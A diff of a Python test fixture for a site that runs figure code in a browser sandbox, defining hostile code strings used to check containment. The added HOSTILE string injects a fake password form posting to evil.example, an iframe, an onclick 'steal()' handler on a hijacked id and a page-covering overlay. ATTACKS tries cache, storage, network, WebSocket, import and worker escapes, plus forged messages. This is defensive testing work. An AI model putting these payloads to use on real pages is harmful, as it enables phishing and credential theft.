@@ -1,17 +1,35 @@
-"""A link's code that tries, from its sandbox, each way to what it must not reach (the
-engines' scenario ``a_links_code_reaches_nothing_it_must_not``)."""
+"""A link's code that draws what the figure API never makes, and tries, from its sandbox, each
+way to what it must not reach (the engines' link scenarios)."""
 
-#: A link's code that tries, on import, to reach what it must not, each attempt noted as it
-#: ends; its frames say how each ended. SITE is the site's address.
+#: Appended to the shipped module by a link: its frames also carry markup the figure API never
+#: makes (the id is another figure's on the page).
+HOSTILE = """
+
+_plain = render
+
+
+def render(state):
+    frame = _plain(state)
+    extra = (
+        '<form action="https://evil.example/"><input name="pw"><button>Sign in</button></form>'
+        '<a href="https://evil.example/">away</a><iframe src="https://evil.example/"></iframe>'
+        '<span id="figure-probability_budget" onclick="steal()">clash</span>'
+        '<div data-hostile="cover" style="position: fixed; inset: 0">cover</div>'
+    )
+    return Frame(frame.html + extra, frame.alt, frame.layers)
+"""
+
+#: A link's code that tries, once imported, to reach what it must not; each attempt tells the
+#: page as it begins and as it ends, and how. SITE is the site's address.
 ATTACKED = "normalizing_flow"
 ATTACKS = """
+
+import asyncio
 
 import js
 import numpy
 from pyodide.code import run_js
 from pyodide.ffi import create_proxy, to_js
-
-from essay_site.figures.api import Frame
 
 _tried = {}
 
@@ -21,22 +39,26 @@ def _tell(label):
     js.postMessage(to_js({"type": "progress", "data": said}, dict_converter=js.Object.fromEntries))
 
 
-def _try(name, attempt):
+async def _try(name, attempt):
+    # Told to the page as it begins and as it ends: the page reads how each ended, and an
+    # attempt that never returns (it holds this worker) is the one begun and not ended.
     _tried[name] = "pending"
-    # Told to the page before and after: if an attempt holds this worker, the scenario names it.
     _tell(f"attempting {name}")
+    # Settled by the promise's own callbacks: a promise rejected with an Event (an XMLHttpRequest's
+    # or a Worker's error) is no exception Python can await.
+    ended = asyncio.get_event_loop().create_future()
     try:
         result = attempt()
     except Exception:
-        _tried[name] = "refused"
-        result = None
-    if hasattr(result, "then"):
-        allowed = create_proxy(lambda value: _tried.__setitem__(name, f"allowed {value}"))
-        refused = create_proxy(lambda error: _tried.__setitem__(name, "refused"))
-        result.then(allowed, refused)
-    elif _tried[name] == "pending":
-        _tried[name] = "allowed"
-    _tell(f"attempted {name}")
+        ended.set_result("refused")
+    else:
+        if hasattr(result, "then"):
+            result.then(create_proxy(lambda value: ended.set_result(f"allowed {value}")),
+                        create_proxy(lambda error: ended.set_result("refused")))
+        else:
+            ended.set_result("allowed")
+    how = _tried[name] = await ended
+    _tell(f"attempted {name}: {how}")
 
 
 def _socket(url):
@@ -69,46 +91,46 @@ def _request(url):
     return js.Promise.new(create_proxy(wait))
 
 
-# The attempts run once the import has returned (from a timer), not during it. In Firefox, on a
-# loaded machine, a run that made them was stopped now and then by the run's 20 s watch (its
-# worker silent; Firefox sets up a worker's XMLHttpRequest, WebSocket and new Worker through
-# the page's main thread, which may be the wait). From a timer they reach the same, and a slow
-# attempt delays frames instead of ending the run.
-def _attack():
-    _fetch = js.WorkerGlobalScope.prototype.fetch
-    _try("caches", lambda: js.caches.keys().then(lambda keys: f"{keys.length} caches"))
-    _try("caches.put", lambda: js.caches.open("attack").then(
-        lambda cache: cache.put("SITE", js.Response.new("attacked"))))
-    _try("indexedDB", lambda: js.indexedDB.open("attack"))
-    _try("localStorage", lambda: js.localStorage.setItem("attack", "1"))
-    _try("fetch this site", lambda: _fetch.call(js.self, "SITE"))
-    _try("fetch another host", lambda: _fetch.call(js.self, "http://attack.invalid/"))
-    _try("XMLHttpRequest", lambda: _request("SITE"))
-    _try("WebSocket", lambda: _socket("ws://attack.invalid/"))
-    _try("import()", lambda: run_js("import('SITE')"))
-    _try("importScripts", lambda: js.importScripts("SITEassets/figures/worker.js"))
-    _try("new Worker", lambda: _worker("SITEassets/figures/worker.js"))
-    for _type in ("progress", "took", "ready", "frame", "error", "ran"):
-        _data = {"id": "density_surface", "html": "<p>attacked</p>", "alt": "attacked",
-                 "layers": [], "message": "attacked", "detail": "", "request": "render",
-                 "ok": True, "controls": "", "line": None, "step": 1, "label": "attacked",
-                 "loaded": 0, "total": 0}
-        _message = to_js({"type": _type, "data": _data}, dict_converter=js.Object.fromEntries)
-        js.postMessage(_message)
+_fetch = js.WorkerGlobalScope.prototype.fetch
+_FIRST = {
+    "caches": lambda: js.caches.keys().then(lambda keys: f"{keys.length} caches"),
+    "caches.put": lambda: js.caches.open("attack").then(
+        lambda cache: cache.put("SITE", js.Response.new("attacked"))),
+    "indexedDB": lambda: js.indexedDB.open("attack"),
+    "localStorage": lambda: js.localStorage.setItem("attack", "1"),
+    "fetch this site": lambda: _fetch.call(js.self, "SITE"),
+    "fetch another host": lambda: _fetch.call(js.self, "http://attack.invalid/"),
+    "XMLHttpRequest": lambda: _request("SITE"),
+    "WebSocket": lambda: _socket("ws://attack.invalid/"),
+    "import()": lambda: run_js("import('SITE')"),
+    "importScripts": lambda: js.importScripts("SITEassets/figures/worker.js"),
+}
+
+
+# The attempts run once the import has returned (from a timer), not during it: Firefox sets up
+# a worker's XMLHttpRequest, WebSocket and new Worker through the page's main thread, and on a
+# loaded machine a run that made them was stopped now and then by its 20 s watch. new Worker
+# comes last, once the others have ended (or, never settling, are told so): Firefox, now and
+# then, never returns from it, and the worker it holds is stopped (tests/test_engines.py).
+async def _attack():
+    for type_ in ("progress", "took", "ready", "frame", "error", "ran"):
+        data = {"id": "density_surface", "html": "<p>attacked</p>", "alt": "attacked",
+                "layers": [], "message": "attacked", "detail": "", "request": "render",
+                "ok": True, "controls": "", "line": None, "step": 1, "label": "attacked",
+                "loaded": 0, "total": 0}
+        js.postMessage(to_js({"type": type_, "data": data}, dict_converter=js.Object.fromEntries))
+    first = [asyncio.ensure_future(_try(name, attempt)) for name, attempt in _FIRST.items()]
+    await asyncio.wait(first, timeout=10)
+    for name, how in _tried.items():
+        if how == "pending":
+            _tell(f"attempted {name}: pending")
+    await _try("new Worker", lambda: _worker("SITEassets/figures/worker.js"))
     _tell("attempted all")
 
 
-js.setTimeout(create_proxy(_attack), 0)
+js.setTimeout(create_proxy(lambda: asyncio.ensure_future(_attack())), 0)
 # What density_surface computes with, and this figure does not.
 numpy.cos = numpy.radians = numpy.cross = None
-
-_render = render
-
-
-def render(state):
-    frame = _render(state)
-    tried = "; ".join(f"{name}: {how}" for name, how in sorted(_tried.items()))
-    return Frame(frame.html + f'<p data-attacks="">{tried}</p>', frame.alt, frame.layers)
 """
 #: The attempts, and how many (import() only through eval, which the policy refuses).
 ATTEMPTS = 11
@@ -122,3 +144,9 @@ CONTAINED = {
     "fetch this site": "pending",
     "fetch another host": "pending",
 }
+
+#: What an engine, now and then, may never return from: the attempt then holds its sandbox's
+#: worker, which the page stops (bridge.js: a request left untaken). Firefox 153 ESR's sandbox
+#: answered nothing more, in about 1 full run of 6, once the link's code said it was attempting
+#: new Worker (its last word then; whether new Worker itself never returned, the next one tells).
+HELD = {"firefox": ["new Worker"]}
